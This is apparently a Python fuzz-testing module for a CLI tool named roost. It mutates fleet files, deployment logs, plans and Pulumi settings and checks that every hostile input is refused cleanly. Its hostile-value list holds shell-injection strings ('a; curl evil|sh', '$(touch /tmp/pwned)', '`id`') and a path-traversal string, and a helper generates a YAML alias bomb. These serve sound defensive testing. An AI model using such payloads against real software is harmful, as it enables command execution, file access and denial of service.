"""Generated hostile inputs for four surfaces, and the oracle every one of them must pass.

Shared by the in-suite property tests (tests/test_fuzz.py, a few dozen examples) and the long
campaign (benchmarks/fuzz_campaign.py, thousands). Each surface starts from a valid input and
applies zero or more mutations drawn by hypothesis: a value swapped for a hostile one, a key
dropped, added or misspelt, the text cut short, padded, aliased or duplicated.

The oracle (``Outcome.problems``): no exit 70 and no traceback; exit codes only 0-3; no
non-finite number in the output of an accepted input (a refusal may quote the bad value); and
when a command refused (exit ≠ 0) nothing on disk changed.
"""
from __future__ import annotations

import copy
import hashlib
import json
import math
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml
from click.testing import CliRunner
from hypothesis import strategies as st

from testdata import FLEET_V1

HOSTILE_SCALARS: tuple[Any, ...] = (
    None, True, False, 0, -1, 1.5, 8080.7, 10**9, 10**30, 1e308, -1e308, float("nan"), float("inf"),
    float("-inf"), "", " ", "x" * 5000, "a; curl evil|sh", "$(touch /tmp/pwned)", "`id`", "'\"", "\x00",
    "ünïcødé", "1e9", "NaN", "true", "-", "../../etc/passwd", [], {}, [1, 2], {"a": 1}, [[[[[]]]]],
)
NON_FINITE = re.compile(r"(?<![A-Za-z])(nan|-?inf|-?infinity)(?![A-Za-z])", re.IGNORECASE)


# -- the oracle --------------------------------------------------------------------------------------
@dataclass
class Outcome:
    surface: str
    exit_code: int
    output: str
    changed_on_refusal: list[str] = field(default_factory=list)

    @property
    def problems(self) -> list[str]:
        out = []
        if self.exit_code == 70 or "internal error" in self.output:
            out.append("internal error")
        if "Traceback" in self.output:
            out.append("traceback")
        if self.exit_code not in (0, 1, 2, 3, 70):
            out.append(f"exit code {self.exit_code}")
        # A refusal may quote the bad value ("got 'NaN'"); a result must never contain one.
        if self.exit_code == 0 and NON_FINITE.search(self.output):
            out.append(f"non-finite number in output: {NON_FINITE.search(self.output).group(0)!r}")
        if self.changed_on_refusal:
            out.append(f"wrote after refusing: {', '.join(self.changed_on_refusal)}")
        return out


def tree_digest(root: Path) -> dict[str, str]:
    """Every file under ``root`` (relative path → sha256), to prove a refusal wrote nothing."""
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


def run_cli(surface: str, args: list[str], root: Path, obj: Any = None) -> Outcome:
    """Invoke roost in-process; compare ``root`` before and after when the command refused."""
    from roost.cli import main

    before = tree_digest(root)
    result = CliRunner().invoke(main, args, obj=obj)
    output = result.output
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        output += f"\nTraceback: {type(result.exception).__name__}: {result.exception}"
    changed = []
    if result.exit_code != 0:
        after = tree_digest(root)
        changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k)
                         and not k.endswith(".rejected.csv"))  # --skip-invalid's quarantine is its output
    return Outcome(surface, result.exit_code, output, changed)


def check_finite(value: Any, where: str = "") -> list[str]:
    """Paths of non-finite floats inside a returned value (for pure functions)."""
    if isinstance(value, float) and not math.isfinite(value):
        return [where or "value"]
    if isinstance(value, dict):
        return [p for k, v in value.items() for p in check_finite(v, f"{where}.{k}")]
    if isinstance(value, (list, tuple)):
        return [p for i, v in enumerate(value) for p in check_finite(v, f"{where}[{i}]")]
    return []


# -- mutations of a nested document ------------------------------------------------------------------
def _paths(doc: Any, prefix: tuple = ()) -> list[tuple]:
    out = [prefix]
    if isinstance(doc, dict):
        for k, v in doc.items():
            out += _paths(v, (*prefix, k))
    elif isinstance(doc, list):
        for i, v in enumerate(doc):
            out += _paths(v, (*prefix, i))
    return out


def _parent(doc: Any, path: tuple) -> tuple[Any, Any]:
    node = doc
    for part in path[:-1]:
        node = node[part]
    return node, path[-1]


@st.composite
def mutated(draw: Callable, base: Any, max_mutations: int = 3) -> Any:
    """``base`` with 0..max_mutations edits at drawn places."""
    doc = copy.deepcopy(base)
    for _ in range(draw(st.integers(0, max_mutations))):
        paths = [p for p in _paths(doc) if p]
        if not paths:
            break
        path = draw(st.sampled_from(paths))
        parent, key = _parent(doc, path)
        kind = draw(st.sampled_from(["replace", "replace", "drop", "add", "scale"]))
        if kind == "replace":
            # A copy: the pool's lists and dicts must not be edited by later mutations (or by roost).
            parent[key] = copy.deepcopy(draw(st.sampled_from(HOSTILE_SCALARS) | st.integers() | st.floats()
                                             | st.text(max_size=30)))
        elif kind == "drop":
            del parent[key]
        elif kind == "add" and isinstance(parent, dict):
            parent[draw(st.sampled_from(["surprise", "precison", "replica", str(key) + "s"]))] = \
                copy.deepcopy(draw(st.sampled_from(HOSTILE_SCALARS)))
        elif kind == "scale" and isinstance(parent[key], (int, float)) and not isinstance(parent[key], bool):
            parent[key] = parent[key] * draw(st.sampled_from([-1, 0, 1000, 10**12, 0.5]))
    return doc


@st.composite
def text_damage(draw: Callable, text: str) -> str:
    """Text-level damage a parser of structure cannot produce: cuts, duplicates, aliases, nesting."""
    kind = draw(st.sampled_from(["none", "none", "cut", "dup_line", "bomb", "nest", "junk"]))
    if kind == "cut":
        return text[: draw(st.integers(0, len(text)))]
    if kind == "dup_line":
        lines = text.splitlines()
        i = draw(st.integers(0, max(0, len(lines) - 1)))
        return "\n".join(lines[: i + 1] + lines[i:]) + "\n"
    if kind == "bomb":
        depth = draw(st.integers(3, 9))
        lines = ['l0: &l0 ["x","x","x","x","x","x","x","x","x"]']
        lines += [f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, depth + 1)]
        return text + "\n" + "\n".join(lines) + "\n"
    if kind == "nest":
        return text + "\nextra: " + "[" * draw(st.integers(10, 2_000)) + "\n"  # 100k: tests/placement
    if kind == "junk":
        return text + draw(st.text(max_size=40))
    return text


# -- surface 1: fleet files --------------------------------------------------------------------------
FLEET_DOC = yaml.safe_load(FLEET_V1)


@st.composite
def fleet_texts(draw: Callable) -> str:
    doc = draw(mutated(FLEET_DOC, max_mutations=4))
    try:
        text = yaml.safe_dump(doc, sort_keys=False, allow_unicode=True)
    except yaml.YAMLError:
        text = FLEET_V1
    return draw(text_damage(text))


def fleet_outcome(text: str, root: Path, *, cli: bool = True) -> Outcome:
    """Parse (and, with ``cli``, `roost recommend --json`) one fleet file."""
    path = root / "fleet.yaml"
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    if cli:
        return run_cli("fleet", ["recommend", str(path), "--json"], root)
    from placement.catalog import load_catalog
    from placement.errors import RoostError
    from roost.workflows import load_checked_fleet

    try:
        load_checked_fleet(str(path), load_catalog())
    except RoostError as exc:
        return Outcome("fleet", exc.exit_code, str(exc))
    except Exception as exc:  # the bug the campaign counts
        return Outcome("fleet", 70, f"internal error: {type(exc).__name__}: {exc}")
    return Outcome("fleet", 0, "")


# -- surface 2: deployment logs ----------------------------------------------------------------------
_SAMPLE: list[Any] = []


def sample_rows() -> Any:
    if not _SAMPLE:
        from history.sample import bundled_history

        _SAMPLE.append(bundled_history().head(40).reset_index(drop=True))
    return _SAMPLE[0]


LOG_VALUES = HOSTILE_SCALARS + ("2999-01-01T00:00:00Z", "1600-01-01", "yesterday", " sim-1", "0x10", "1,5")


@st.composite
def log_files(draw: Callable) -> tuple[str, Any]:
    """(file name, frame) with cells, columns or rows damaged."""
    import pandas as pd

    frame = sample_rows().head(draw(st.integers(0, 6))).copy()
    for _ in range(draw(st.integers(0, 4))):
        kind = draw(st.sampled_from(["cell", "cell", "drop", "rename", "extra", "dup_row"]))
        if kind == "cell" and len(frame):
            col = draw(st.sampled_from(list(frame.columns)))
            row = draw(st.integers(0, len(frame) - 1))
            frame[col] = frame[col].astype(object)
            frame.at[row, col] = draw(st.sampled_from(LOG_VALUES))
        elif kind == "drop" and col_ok(frame):
            frame = frame.drop(columns=[draw(st.sampled_from(list(frame.columns)))])
        elif kind == "rename" and col_ok(frame):
            old = draw(st.sampled_from(list(frame.columns)))
            frame = frame.rename(columns={old: old[:-1] + "x"})
        elif kind == "extra":
            frame[draw(st.sampled_from(["precison", "notes", "extra"]))] = draw(st.sampled_from(LOG_VALUES[:12]))
        elif kind == "dup_row" and len(frame):
            frame = pd.concat([frame, frame.head(1)], ignore_index=True)
    name = draw(st.sampled_from(["log.csv", "log.csv.gz", "log.parquet"]))
    return name, frame


def col_ok(frame: Any) -> bool:
    return len(frame.columns) > 1


def log_outcome(name: str, frame: Any, root: Path, *, truncate: int | None = None, cli: bool = True) -> Outcome:
    from history.schema import write_log

    path = root / name
    try:
        write_log(frame, path)
    except Exception:  # a frame even pandas/pyarrow cannot write: write it as text instead
        path = root / "log.csv"
        path.write_text(frame.astype(str).to_csv(index=False))
    if truncate is not None:
        data = path.read_bytes()
        path.write_bytes(data[: truncate % (len(data) + 1)])
    store = root / "store.parquet"
    if cli:
        return run_cli("logs", ["history", "ingest", str(path), "--into", str(store), "--json"], root)
    from history.ingest import ingest
    from placement.errors import RoostError

    try:
        result = ingest(path, store=store, catalog=_catalog())
    except RoostError as exc:
        return Outcome("logs", exc.exit_code, str(exc), sorted(p.name for p in [store] if p.exists()))
    except Exception as exc:
        return Outcome("logs", 70, f"internal error: {type(exc).__name__}: {exc}")
    return Outcome("logs", 0, json.dumps(result.to_dict(), default=str))


# -- surfaces 3 and 4: committed plans and stack settings ---------------------------------------------
_PLAN: list[dict] = []


def base_plan() -> dict:
    if not _PLAN:
        from placement.plan import DeploymentPlan
        from roost.workflows import predictor_for, recommend_fleet

        root = Path(__file__).resolve().parents[1]
        result = recommend_fleet(root / "examples" / "fleet.yaml", _catalog(), predictor_for("baseline"))
        _PLAN.append(DeploymentPlan.from_recommendation(result.fleet, result.recommendation).to_dict())
    return _PLAN[0]


_CATALOG: list[Any] = []


def _catalog() -> Any:
    if not _CATALOG:
        from placement.catalog import load_catalog

        _CATALOG.append(load_catalog())
    return _CATALOG[0]


def base_settings() -> dict:
    from testdata import SSH_KEY

    return {"plan": base_plan(), "planVersion": 1, "publicEndpoint": False, "gcp": {"project": "acme-ml"},
            "azure": {"adminSshPublicKey": SSH_KEY}, "aws": {"ingressCidrs": ["10.0.0.0/8"]},
            "allowedRegions": ["us-east-1", "us-central1", "westus2", "eastus"],
            "budgets": {"stack": 100000, "teams": {"risk": 5000}}}


@st.composite
def plans(draw: Callable) -> dict:
    return draw(mutated(base_plan(), max_mutations=3))


@st.composite
def stack_settings(draw: Callable) -> dict:
    settings = draw(mutated(base_settings(), max_mutations=3))
    if draw(st.booleans()):  # objects may arrive as JSON strings (`pulumi config set`)
        key = draw(st.sampled_from(sorted(settings) or ["plan"]))
        if key in settings:
            settings[key] = json.dumps(settings[key], allow_nan=True)
    return settings


def plan_outcome(plan: Any) -> Outcome:
    """The pure boundary: parse, check against the catalog, recompute; nothing may be non-finite."""
    from placement.errors import RoostError
    from placement.plan import DeploymentPlan
    from placement.plancheck import catalog_for, check_plan

    try:
        parsed = DeploymentPlan.from_dict(plan)
        checked = check_plan(parsed, catalog_for(parsed.catalog_version))
    except RoostError as exc:
        return Outcome("plans", exc.exit_code, str(exc))
    except Exception as exc:
        return Outcome("plans", 70, f"internal error: {type(exc).__name__}: {exc}")
    bad = check_finite(checked.to_dict()) + check_finite(checked.monthly_cost_usd)
    return Outcome("plans", 0, f"non-finite: {bad}" if bad else "")


def settings_outcome(raw: dict) -> Outcome:
    from placement.errors import RoostError
    from stacks.settings import parse_settings

    try:
        settings = parse_settings(raw, stack="dev")
    except RoostError as exc:
        return Outcome("settings", exc.exit_code, str(exc))
    except Exception as exc:
        return Outcome("settings", 70, f"internal error: {type(exc).__name__}: {exc}")
    budgets = settings.policy.budgets
    bad = check_finite(settings.plan.to_dict()) + check_finite([budgets.stack_usd, dict(budgets.teams)])
    return Outcome("settings", 0, f"non-finite: {bad}" if bad else "")


def stack_file_outcome(config: dict, root: Path, args: list[str]) -> Outcome:
    """Write ``config`` as Pulumi.dev.yaml (roost: keys) and run a stack command on it."""
    (root / "Pulumi.yaml").write_text("name: proj\nruntime: python\n")
    doc = {"config": {f"roost:{k}": v for k, v in config.items()}}
    try:
        text = yaml.safe_dump(doc, sort_keys=False, allow_unicode=True)
    except yaml.YAMLError:
        text = "config: {}\n"
    (root / "Pulumi.dev.yaml").write_text(text, encoding="utf-8", errors="surrogatepass")
    return run_cli("stack", [*args, "--stack", "dev", "--project-dir", str(root)], root)
